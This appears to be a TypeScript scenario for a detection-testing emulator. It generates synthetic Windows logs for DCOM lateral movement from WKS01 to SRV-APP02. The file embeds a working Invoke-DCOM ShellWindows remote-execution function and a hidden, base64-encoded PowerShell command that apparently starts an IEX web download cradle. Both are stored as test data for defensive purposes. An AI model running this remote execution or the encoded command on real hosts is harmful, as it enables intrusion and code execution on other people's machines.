import { interactivePowerShell } from "../actions.js";
import { ALICE_ADMIN, SRV_APP02, WKS01 } from "../estate.js";
import type { Scenario } from "../scenario.js";
import { ephemeralPort } from "../values.js";

const INVOKE_DCOM = `function Invoke-DCOM {
    [CmdletBinding()]
    Param(
        [Parameter(Mandatory = $true, Position = 0)][string]$ComputerName,
        [Parameter(Mandatory = $true, Position = 1)][ValidateSet("MMC20.Application", "ShellWindows", "ShellBrowserWindow", "CheckDomain", "ServiceCheck", "MinimizeAll", "ServiceStop", "ServiceStart", "DetectOffice", "RegisterXLL", "ExcelDDE")][string]$Method = "MMC20.Application",
        [Parameter(Mandatory = $false, Position = 2)][string]$ServiceName,
        [Parameter(Mandatory = $false, Position = 3)][string]$Command= "calc.exe",
        [Parameter(Mandatory = $false, Position = 4)][string]$DllPath
    )
    Begin {
        $Com = [Type]::GetTypeFromCLSID('9BA05972-F6A8-11CF-A442-00A0C90A8F39',"$ComputerName")
        $Obj = [System.Activator]::CreateInstance($Com)
    }
    Process {
        if ($Method -Match "ShellWindows") {
            $Item = $Obj.Item()
            $Item.Document.Application.ShellExecute("cmd.exe","/c $Command","c:\\windows\\system32",$null,0)
        }
    }
}`.replace(/\n/g, "\r\n");

export const sourceSide: Scenario = {
  name: "source-side",
  description:
    "The source side only (WKS01): PowerShell 4104 script blocks defining and calling Invoke-DCOM (GetTypeFromCLSID ShellWindows, Activator CreateInstance), 4103 module logging, Sysmon 3 outbound to SRV-APP02:135 then a dynamic port",
  kind: "attack",
  variant: "ShellWindows",
  expect: { object: "ShellWindows", outcome: "requested", observed_on: "source", incidents: 1 },
  loopback: false,
  hosts: [WKS01],
  generate(ctx) {
    const host = ctx.host(WKS01);
    const ps = interactivePowerShell(
      ctx,
      host,
      ALICE_ADMIN,
      '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"',
      0,
    );
    ctx.emu.scriptBlock(ps, INVOKE_DCOM, ctx.at(8000));
    const call =
      "Invoke-DCOM -ComputerName SRV-APP02 -Method ShellWindows -Command 'powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA'";
    ctx.emu.scriptBlock(ps, call, ctx.at(14000));
    ctx.emu.pipelineExecution(
      ps,
      "Invoke-DCOM",
      `CommandInvocation(Invoke-DCOM): "Invoke-DCOM"\r\nParameterBinding(Invoke-DCOM): name="ComputerName"; value="SRV-APP02"\r\nParameterBinding(Invoke-DCOM): name="Method"; value="ShellWindows"\r\nParameterBinding(Invoke-DCOM): name="Command"; value="powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"\r\n`,
      ctx.at(14060),
      "Function",
    );
    const out = (port: number, ms: number) =>
      ctx.emu.connection(
        {
          proc: ps,
          initiated: true,
          sourceIp: WKS01.ip,
          sourcePort: ephemeralPort(ctx.rng),
          sourceHostname: WKS01.computer,
          destinationIp: SRV_APP02.ip,
          destinationPort: port,
          destinationHostname: SRV_APP02.computer,
        },
        ctx.at(ms),
      );
    out(135, 14120);
    out(ephemeralPort(ctx.rng), 14260);
    return ctx.produced();
  },
};
